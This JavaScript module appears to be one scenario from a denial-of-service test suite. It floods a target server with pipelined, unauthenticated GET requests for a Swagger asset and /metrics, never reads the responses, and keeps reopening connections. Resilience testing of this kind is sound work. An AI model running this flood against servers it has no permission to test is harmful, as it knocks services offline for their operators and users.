import { keepOpen, rawHttp, requestHead } from '../http-attacker.mjs'

export const title =
  '1. pipelined requests without a credential: 150 kB for an asset that are not read, 350 kB for `/metrics`, 3 connections each; 60 at once, 3 connections each'

/** Bytes of one connection's requests, all sent at once. */
const assetBytes = 150_000
const metricsBytes = 350_000
/** So few that they may wait for each other. */
const few = 60
const atOnce = 3
const everyMs = 20

export async function attack(target, told) {
  const asset = '/api/docs/swagger-ui-bundle.js'
  const open = (bytes, options) => keepOpen(atOnce, { everyMs }, () => rawHttp(target, told, bytes, options))
  open(requestsOf(asset, assetBytes), { reads: false })
  open(requestsOf('/metrics', metricsBytes))
  open(fewOf(asset), { reads: false })
  open(fewOf('/metrics'))
  await new Promise(() => undefined)
}

function requestsOf(path, bytes) {
  const head = requestHead('GET', path)
  return head.repeat(Math.ceil(bytes / head.length))
}

/** The last one ends the connection, so that another is opened. */
function fewOf(path) {
  return requestHead('GET', path).repeat(few - 1) + requestHead('GET', path, { connection: 'close' })
}
